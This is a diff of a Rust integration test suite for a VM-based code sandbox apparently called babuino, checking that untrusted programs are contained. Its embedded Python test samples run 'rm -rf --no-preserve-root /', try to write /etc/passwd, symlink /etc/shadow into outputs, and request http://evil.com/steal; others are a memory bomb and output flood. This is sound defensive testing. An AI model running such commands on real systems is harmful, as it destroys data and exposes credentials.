@@ -4,6 +4,7 @@
 //!
 //! Skipped, with the reason printed, only when QEMU is not installed; CI installs it
 //! (scripts/deps.d/babuino-vm.sh) and builds the guest assets once into `$TRIAD_CACHE`.
+#![allow(clippy::unwrap_used)] // test helpers: a failed unwrap is a failed test
 
 use std::path::{Path, PathBuf};
 use std::process::{Command, Output, Stdio};
@@ -19,7 +20,9 @@ fn cache_dir() -> PathBuf {
     match std::env::var_os("TRIAD_CACHE").filter(|v| !v.is_empty()) {
         Some(d) => PathBuf::from(d).join("babuino"),
         None => {
-            let home = std::env::var_os("HOME").map(PathBuf::from).unwrap_or_else(|| "/root".into());
+            let home = std::env::var_os("HOME")
+                .map(PathBuf::from)
+                .unwrap_or_else(|| "/root".into());
             home.join(".cache/security-triad/babuino")
         }
     }
@@ -34,14 +37,25 @@ fn babuino() -> Command {
 /// Builds the assets once per test binary (a no-op when cached); None = skip (no QEMU).
 fn ready() -> Option<std::sync::MutexGuard<'static, ()>> {
     static SETUP: OnceLock<Result<(), String>> = OnceLock::new();
-    if Command::new("qemu-system-x86_64").arg("--version").output().is_err() {
+    if Command::new("qemu-system-x86_64")
+        .arg("--version")
+        .output()
+        .is_err()
+    {
         eprintln!("skipped: qemu-system-x86_64 is not installed (apt-get install qemu-system-x86)");
         return None;
     }
     let guard = VM_LOCK.lock().unwrap_or_else(|e| e.into_inner());
     let setup = SETUP.get_or_init(|| {
-        let out = babuino().args(["setup", "vm"]).output().map_err(|e| e.to_string())?;
-        if out.status.success() { Ok(()) } else { Err(String::from_utf8_lossy(&out.stderr).into_owned()) }
+        let out = babuino()
+            .args(["setup", "vm"])
+            .output()
+            .map_err(|e| e.to_string())?;
+        if out.status.success() {
+            Ok(())
+        } else {
+            Err(String::from_utf8_lossy(&out.stderr).into_owned())
+        }
     });
     if let Err(e) = setup {
         panic!("babuino setup vm failed:\n{e}");
@@ -52,17 +66,26 @@ fn ready() -> Option<std::sync::MutexGuard<'static, ()>> {
 /// A unique value put in babuino's environment: QEMU inherits it, so a leftover VM is found by
 /// scanning /proc/*/environ for it.
 fn marker() -> String {
-    format!("BABUINO_TEST_MARK=vm-{}-{}", std::process::id(), Instant::now().elapsed().as_nanos() ^ rand_ish())
+    format!(
+        "BABUINO_TEST_MARK=vm-{}-{}",
+        std::process::id(),
+        Instant::now().elapsed().as_nanos() ^ rand_ish()
+    )
 }
 
 fn rand_ish() -> u128 {
-    std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).map(|d| d.as_nanos()).unwrap_or(0)
+    std::time::SystemTime::now()
+        .duration_since(std::time::UNIX_EPOCH)
+        .map(|d| d.as_nanos())
+        .unwrap_or(0)
 }
 
 fn processes_with(marker: &str) -> Vec<u32> {
     let mut found = Vec::new();
     for e in std::fs::read_dir("/proc").unwrap().flatten() {
-        let Ok(pid) = e.file_name().to_string_lossy().parse::<u32>() else { continue };
+        let Ok(pid) = e.file_name().to_string_lossy().parse::<u32>() else {
+            continue;
+        };
         if let Ok(env) = std::fs::read(e.path().join("environ"))
             && env.split(|b| *b == 0).any(|kv| kv == marker.as_bytes())
         {
@@ -87,10 +110,21 @@ impl Run {
     fn exit_kind(&self) -> &str {
         self.report["exit"]["kind"].as_str().unwrap_or("")
     }
-    fn denials(&self) -> Vec<String> {
-        self.report["denials"]
+    /// Events as `kind: detail` lines.
+    fn events(&self) -> Vec<String> {
+        self.report["events"]
             .as_array()
-            .map(|a| a.iter().map(|d| format!("{}: {}", d["kind"].as_str().unwrap_or(""), d["detail"].as_str().unwrap_or(""))).collect())
+            .map(|a| {
+                a.iter()
+                    .map(|d| {
+                        format!(
+                            "{}: {}",
+                            d["kind"].as_str().unwrap_or(""),
+                            d["detail"].as_str().unwrap_or("")
+                        )
+                    })
+                    .collect()
+            })
             .unwrap_or_default()
     }
 }
@@ -112,10 +146,20 @@ fn run_vm(dir: &Path, args: &[&str]) -> Run {
         .unwrap();
     let stdout = String::from_utf8_lossy(&out.stdout);
     let report: Value = serde_json::from_str(&stdout).unwrap_or_else(|e| {
-        panic!("no JSON report ({e}); stdout:\n{stdout}\nstderr:\n{}", String::from_utf8_lossy(&out.stderr))
+        panic!(
+            "no JSON report ({e}); stdout:\n{stdout}\nstderr:\n{}",
+            String::from_utf8_lossy(&out.stderr)
+        )
     });
-    assert!(processes_with(&mark).is_empty(), "a process of the run outlived it");
-    assert_eq!(std::fs::read_dir(tmp.path()).unwrap().count(), 0, "temporary files left behind");
+    assert!(
+        processes_with(&mark).is_empty(),
+        "a process of the run outlived it"
+    );
+    assert_eq!(
+        std::fs::read_dir(tmp.path()).unwrap().count(),
+        0,
+        "temporary files left behind"
+    );
     Run { out, report }
 }
 
@@ -149,9 +193,9 @@ try:
 except OSError as e:
     print("code dir blocked:", e.strerror)
 subprocess.run(["rm", "-rf", "--no-preserve-root", "/"], stderr=subprocess.DEVNULL)
-os.makedirs("/tmp/output/sub", exist_ok=True)
-open("/tmp/output/sub/result.txt", "w").write("42\n")
-os.symlink("/etc/shadow", "/tmp/output/shadow-link")
+os.makedirs("/out/sub", exist_ok=True)
+open("/out/sub/result.txt", "w").write("42\n")
+os.symlink("/etc/shadow", "/out/shadow-link")
 print("result:", sum(range(10)))
 "#,
     )
@@ -159,28 +203,71 @@ print("result:", sum(range(10)))
     let host_passwd = sha256(Path::new("/etc/passwd"));
     let out_dir = tempfile::tempdir().unwrap();
     let out_path = out_dir.path().join("out");
-    let run = run_vm(code.path(), &["--output", out_path.to_str().unwrap(), "scrape.py"]);
+    let run = run_vm(
+        code.path(),
+        &["--output", out_path.to_str().unwrap(), "scrape.py"],
+    );
     let stdout = run.report.to_string();
     let printed = String::from_utf8_lossy(&run.out.stderr).into_owned();
     assert_eq!(run.code(), 0, "{}", run.stderr());
     assert_eq!(run.exit_kind(), "code");
-    assert!(printed.contains("passwd blocked: Read-only file system"), "{printed}");
+    assert!(
+        printed.contains("passwd blocked: Read-only file system"),
+        "{printed}"
+    );
     assert!(printed.contains("evil.com blocked"), "{printed}");
-    assert!(printed.contains("code dir blocked: Read-only file system"), "{printed}");
+    assert!(
+        printed.contains("code dir blocked: Read-only file system"),
+        "{printed}"
+    );
     assert!(printed.contains("result: 45"), "{printed}");
-    assert!(!printed.contains("WROTE") && !printed.contains("REACHED"), "{printed}");
+    assert!(
+        !printed.contains("WROTE") && !printed.contains("REACHED"),
+        "{printed}"
+    );
     // The refusals are in the report, not only in the program's own output.
-    let denials = run.denials();
-    assert!(denials.iter().any(|d| d.starts_with("file: ") && d.contains("/etc/passwd") && d.contains("EROFS")), "{denials:?}\n{stdout}");
-    assert!(denials.iter().any(|d| d.contains("/code/canary.txt")), "{denials:?}");
-    assert!(denials.iter().any(|d| d.starts_with("network: ")), "{denials:?}");
+    let events = run.events();
+    assert!(
+        events.iter().any(|d| d.starts_with("denied-write: ")
+            && d.contains("/etc/passwd")
+            && d.contains("EROFS")),
+        "{events:?}\n{stdout}"
+    );
+    assert!(
+        events
+            .iter()
+            .any(|d| d.starts_with("denied-write: ") && d.contains("/code/canary.txt")),
+        "{events:?}"
+    );
+    assert!(
+        events.iter().any(|d| d.starts_with("blocked-connect: ")),
+        "{events:?}"
+    );
+    assert!(
+        run.report["outputs"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .any(|o| o == "sub/result.txt"),
+        "{stdout}"
+    );
+    assert!(
+        events
+            .iter()
+            .any(|d| d.starts_with("output-skipped: shadow-link")),
+        "{events:?}"
+    );
     // rm -rf / inside changed nothing outside.
     assert_eq!(std::fs::read_to_string(&canary).unwrap(), "still here");
     assert_eq!(sha256(Path::new("/etc/passwd")), host_passwd);
     // Outputs: the regular file came back, the planted link did not.
-    assert_eq!(std::fs::read_to_string(out_path.join("sub/result.txt")).unwrap(), "42\n");
+    assert_eq!(
+        std::fs::read_to_string(out_path.join("sub/result.txt")).unwrap(),
+        "42\n"
+    );
     assert!(std::fs::symlink_metadata(out_path.join("shadow-link")).is_err());
-    assert_eq!(run.report["accel"], "tcg");
+    assert_eq!(run.report["backend"], "kvm");
+    assert_eq!(run.report["details"]["accel"], "tcg");
 }
 
 #[test]
@@ -192,9 +279,15 @@ fn vm_memory_bomb_is_stopped_by_the_ram_limit() {
         "x = []\nwhile True:\n    x.append(bytearray(8 << 20))\n",
     )
     .unwrap();
-    let run = run_vm(code.path(), &["--memory-mib", "256", "bomb.py"]);
-    assert_eq!(run.exit_kind(), "memory", "{}\n{}", run.report, run.stderr());
-    assert_eq!(run.code(), 137);
+    let run = run_vm(code.path(), &["--memory", "256M", "bomb.py"]);
+    assert_eq!(
+        run.exit_kind(),
+        "memory",
+        "{}\n{}",
+        run.report,
+        run.stderr()
+    );
+    assert_eq!(run.code(), 123);
 }
 
 #[test]
@@ -203,11 +296,17 @@ fn vm_infinite_loop_is_killed_at_the_time_limit() {
     let code = tempfile::tempdir().unwrap();
     std::fs::write(code.path().join("spin.py"), "while True:\n    pass\n").unwrap();
     let t = Instant::now();
-    let run = run_vm(code.path(), &["--timeout", "3", "spin.py"]);
-    assert_eq!(run.exit_kind(), "timeout", "{}\n{}", run.report, run.stderr());
+    let run = run_vm(code.path(), &["--timeout", "3s", "spin.py"]);
+    assert_eq!(
+        run.exit_kind(),
+        "timeout",
+        "{}\n{}",
+        run.report,
+        run.stderr()
+    );
     assert_eq!(run.code(), 124);
-    let run_ms = run.report["run_ms"].as_u64().unwrap();
-    assert!((3000..6000).contains(&run_ms), "run_ms {run_ms}");
+    let run_ms = run.report["timings"]["run_ms"].as_f64().unwrap();
+    assert!((3000.0..8000.0).contains(&run_ms), "run_ms {run_ms}");
     assert!(t.elapsed() < Duration::from_secs(120));
 }
 
@@ -215,19 +314,38 @@ fn vm_infinite_loop_is_killed_at_the_time_limit() {
 fn vm_output_flood_is_cut_at_the_output_limit() {
     let Some(_vm) = ready() else { return };
     let code = tempfile::tempdir().unwrap();
-    let run = run_vm(code.path(), &["--max-output", "100000", "--", "sh", "-c", "yes babuino"]);
-    assert_eq!(run.exit_kind(), "output-limit", "{}\n{}", run.report, run.stderr());
-    assert_eq!(run.code(), 125);
-    // Exactly the limit reached the user.
-    let shown = run.out.stderr.iter().filter(|b| **b == b'\n').count();
-    assert!(shown <= 100000 / "babuino\n".len() + 1);
+    let run = run_vm(
+        code.path(),
+        &["--output-limit", "100000", "sh", "-c", "yes babuino"],
+    );
+    assert_eq!(
+        run.exit_kind(),
+        "output-cap",
+        "{}\n{}",
+        run.report,
+        run.stderr()
+    );
+    assert_eq!(run.code(), 121);
+    assert_eq!(run.report["stdout"]["truncated"], true);
+    // No more than the limit reached the user.
+    let shown = String::from_utf8_lossy(&run.out.stderr)
+        .matches("babuino\n")
+        .count();
+    assert!(
+        shown > 0 && shown <= 100000 / "babuino\n".len() + 1,
+        "{shown}"
+    );
 }
 
 #[test]
 fn vm_sigkill_of_babuino_leaves_nothing_behind() {
     let Some(_vm) = ready() else { return };
     let code = tempfile::tempdir().unwrap();
-    std::fs::write(code.path().join("wait.py"), "import time\nprint('ready', flush=True)\ntime.sleep(600)\n").unwrap();
+    std::fs::write(
+        code.path().join("wait.py"),
+        "import time\nprint('ready', flush=True)\ntime.sleep(600)\n",
+    )
+    .unwrap();
     let mark = marker();
     let (k, v) = mark.split_once('=').unwrap();
     let tmp = tempfile::tempdir().unwrap();
@@ -251,36 +369,141 @@ fn vm_sigkill_of_babuino_leaves_nothing_behind() {
         assert!(n > 0, "babuino ended before the program started");
         seen.extend_from_slice(&buf[..n]);
     }
-    assert!(processes_with(&mark).len() >= 2, "expected babuino and qemu to be running");
+    assert!(
+        processes_with(&mark).len() >= 2,
+        "expected babuino and qemu to be running"
+    );
     child.kill().unwrap(); // SIGKILL: babuino gets no chance to clean up
     child.wait().unwrap();
     let deadline = Instant::now() + Duration::from_secs(10);
     while !processes_with(&mark).is_empty() && Instant::now() < deadline {
         std::thread::sleep(Duration::from_millis(50));
     }
-    assert!(processes_with(&mark).is_empty(), "qemu survived the SIGKILL of babuino");
-    assert_eq!(std::fs::read_dir(tmp.path()).unwrap().count(), 0, "temporary files left behind");
+    assert!(
+        processes_with(&mark).is_empty(),
+        "qemu survived the SIGKILL of babuino"
+    );
+    assert_eq!(
+        std::fs::read_dir(tmp.path()).unwrap().count(),
+        0,
+        "temporary files left behind"
+    );
 }
 
 #[test]
 fn vm_run_without_assets_says_what_to_do() {
     let empty = tempfile::tempdir().unwrap();
     let out = Command::new(env!("CARGO_BIN_EXE_babuino"))
-        .args(["run", "--sandbox", "kvm", "--", "true"])
+        .args(["run", "--sandbox", "kvm", "true"])
         .env("BABUINO_CACHE", empty.path())
         .output()
         .unwrap();
-    assert_eq!(out.status.code(), Some(70));
+    assert_eq!(out.status.code(), Some(125));
     let err = String::from_utf8_lossy(&out.stderr);
     assert!(err.contains("babuino setup vm"), "{err}");
 }
 
 #[test]
-fn vm_allow_list_is_refused_rather_than_run_open() {
-    let out = Command::new(env!("CARGO_BIN_EXE_babuino"))
-        .args(["run", "--sandbox", "kvm", "--allow", "pypi.org", "--", "true"])
+fn vm_allowed_host_is_reached_through_the_egress_proxy_and_nothing_else() {
+    let Some(_vm) = ready() else { return };
+    // A local web server standing in for the allowed host.
+    let server = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = server.local_addr().unwrap().port();
+    std::thread::spawn(move || {
+        for conn in server.incoming().flatten() {
+            use std::io::{Read, Write};
+            let mut c = conn;
+            let mut buf = [0u8; 4096];
+            let _ = c.read(&mut buf);
+            let body = "hello from the allowed host";
+            let _ = write!(
+                c,
+                "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
+                body.len()
+            );
+        }
+    });
+    let code = tempfile::tempdir().unwrap();
+    std::fs::write(
+        code.path().join("net.py"),
+        r#"
+import socket, urllib.request
+print("allowed:", urllib.request.urlopen("http://allowed.test/data", timeout=20).read().decode())
+try:
+    urllib.request.urlopen("http://evil.com/steal", timeout=20)
+    print("REACHED evil.com")
+except Exception as e:
+    print("evil.com blocked:", type(e).__name__)
+try:
+    socket.create_connection(("1.1.1.1", 80), timeout=5)
+    print("REACHED 1.1.1.1 directly")
+except OSError as e:
+    print("direct blocked:", e.strerror)
+"#,
+    )
+    .unwrap();
+    let mark = marker();
+    let (k, v) = mark.split_once('=').unwrap();
+    let out = babuino()
+        .args([
+            "run",
+            "--sandbox",
+            "kvm",
+            "--accel",
+            "tcg",
+            "--json",
+            "--network-allow",
+            "allowed.test",
+            "net.py",
+        ])
+        .current_dir(code.path())
+        .env(
+            "BABUINO_TEST_RESOLVE",
+            format!("allowed.test=127.0.0.1:{port}"),
+        )
+        .env(k, v)
         .output()
         .unwrap();
-    assert_ne!(out.status.code(), Some(0));
-    assert!(String::from_utf8_lossy(&out.stderr).contains("nothing was run"));
+    let printed = String::from_utf8_lossy(&out.stderr);
+    let report: Value =
+        serde_json::from_slice(&out.stdout).unwrap_or_else(|e| panic!("{e}: {printed}"));
+    assert_eq!(out.status.code(), Some(0), "{printed}");
+    assert!(
+        printed.contains("allowed: hello from the allowed host"),
+        "{printed}"
+    );
+    assert!(printed.contains("evil.com blocked"), "{printed}");
+    assert!(printed.contains("direct blocked"), "{printed}");
+    assert!(!printed.contains("REACHED"), "{printed}");
+    let events: Vec<String> = report["events"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|e| {
+            format!(
+                "{}: {}",
+                e["kind"].as_str().unwrap(),
+                e["detail"].as_str().unwrap()
+            )
+        })
+        .collect();
+    assert!(
+        events
+            .iter()
+            .any(|e| e.starts_with("allowed-connect: ") && e.contains("allowed.test")),
+        "{events:?}"
+    );
+    assert!(
+        events
+            .iter()
+            .any(|e| e.starts_with("blocked-connect: ") && e.contains("evil.com")),
+        "{events:?}"
+    );
+    assert!(
+        events
+            .iter()
+            .any(|e| e.starts_with("blocked-connect: ") && e.contains("1.1.1.1")),
+        "{events:?}"
+    );
+    assert!(processes_with(&mark).is_empty());
 }
